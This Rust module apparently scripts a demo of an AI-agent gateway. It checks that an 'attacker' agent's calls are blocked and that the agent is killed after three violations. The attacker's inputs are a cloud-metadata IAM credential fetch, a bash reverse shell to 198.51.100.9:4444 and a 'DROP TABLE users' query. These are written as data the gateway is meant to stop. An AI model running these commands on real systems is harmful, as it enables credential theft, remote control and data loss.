//! The breach: what is called in which order, and what should become of it.

use std::time::Duration;

use serde_json::{Value, json};

use super::cast::{Cast, Player};
use crate::{
    control_plane::{ControlPlane, text_of},
    error::CliError,
    http::path_segment,
    table::printable,
    time,
};

/// Between two calls when somebody watches.
pub(super) const PAUSE: Duration = Duration::from_millis(700);

/// Blocked calls of one agent after which it is killed.
const VIOLATIONS_MAX: u32 = 3;

/// The gateway learns of a kill within a second; a call takes a few milliseconds.
const CALLS_AFTER_KILL_MAX: u32 = 200;

/// A call, or a kill, and what came of it.
#[derive(Debug)]
pub(super) struct Told {
    at: u64,
    who: &'static str,
    what: String,
    wanted: &'static str,
    became: String,
}

impl Told {
    /// Whether it became what it should.
    pub(super) fn is_met(&self) -> bool {
        self.became.split(' ').next() == Some(self.wanted)
    }

    /// On one line.
    pub(super) fn line(&self) -> String {
        let mark = if self.is_met() { '✓' } else { '✗' };
        let at = time::time_of_day(self.at);
        format!("{mark} {at} {:14} {:64} {}", self.who, printable(&self.what), printable(&self.became))
    }
}

/// Plays the breach and tells each step.
pub(super) fn play(
    cast: &Cast,
    control_plane: &ControlPlane,
    mut tell: impl FnMut(Told) -> Result<(), CliError>,
) -> Result<(), CliError> {
    let upstream = cast.upstream.as_str();
    let sql = |sql: &str| json!({ "sql": sql });
    let calls: [(&Player, &str, Value, &'static str); 4] = [
        (&cast.scout, "database.query", sql("SELECT name FROM users"), "ALLOW"),
        (&cast.exec, "database.query", sql("SELECT count(*) FROM users"), "ALLOW"),
        (&cast.exec, "database.query", sql("DROP TABLE users"), "BLOCK"),
        (&cast.scout, "database.query", sql("SELECT id, name FROM users ORDER BY name"), "ALLOW"),
    ];
    for (player, tool, params, wanted) in calls {
        tell(call(player, tool, &params, upstream, wanted)?)?;
    }
    let attempts = [
        ("http.fetch", json!({ "url": "http://169.254.169.254/latest/meta-data/iam/" })),
        ("shell.exec", json!({ "command": "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1" })),
        ("database.query", sql("DROP TABLE users")),
    ];
    let mut violations = 0;
    for (tool, params) in attempts {
        let told = call(&cast.attacker, tool, &params, "", "BLOCK")?;
        violations += u32::from(told.is_met());
        tell(told)?;
    }
    if violations >= VIOLATIONS_MAX {
        tell(kill(&cast.attacker, control_plane)?)?;
        tell(after_the_kill(&cast.attacker)?)?;
    }
    let last = sql("SELECT name FROM users");
    tell(call(&cast.scout, "database.query", &last, upstream, "ALLOW")?)
}

fn call(
    player: &Player,
    tool: &str,
    params: &Value,
    upstream: &str,
    wanted: &'static str,
) -> Result<Told, CliError> {
    let body = json!({ "tool": tool, "params": params, "target_url": upstream });
    let answer = player.gateway.post("/v1/proxy", &body)?.json()?;
    let became = match answer.get("allowed").and_then(Value::as_bool) {
        Some(true) if upstream.is_empty() => "ALLOW".to_owned(),
        Some(true) => "ALLOW forwarded".to_owned(),
        Some(false) => format!("BLOCK {}", text_of(&answer, "denial_reason")),
        None => format!("REFUSED {}", text_of(&answer, "error_code")),
    };
    let params = params.as_object().and_then(|params| params.values().next());
    let text = params.and_then(Value::as_str).unwrap_or_default();
    Ok(Told {
        at: time::unix_seconds(),
        who: player.name,
        what: format!("{tool} {text}"),
        wanted,
        became,
    })
}

fn kill(player: &Player, control_plane: &ControlPlane) -> Result<Told, CliError> {
    let path = format!("/v1/agents/{}/kill", path_segment(&player.id));
    let order = json!({ "reason": "breach_detected", "cascade": true });
    let obeyed = control_plane.post(&path, &order)?;
    let is_killed = text_of(&obeyed, "state") == "killed";
    Ok(Told {
        at: time::unix_seconds(),
        who: player.name,
        what: format!("{VIOLATIONS_MAX} violations: automatic kill cascade"),
        wanted: "KILLED",
        became: if is_killed { "KILLED".to_owned() } else { text_of(&obeyed, "state").to_owned() },
    })
}

/// Calls in the killed agent's name until it is refused.
fn after_the_kill(player: &Player) -> Result<Told, CliError> {
    let params = json!({ "sql": "SELECT name FROM users" });
    let mut told = call(player, "database.query", &params, "", "REFUSED")?;
    for _ in 0..CALLS_AFTER_KILL_MAX {
        if told.is_met() {
            break;
        }
        told = call(player, "database.query", &params, "", "REFUSED")?;
    }
    Ok(told)
}
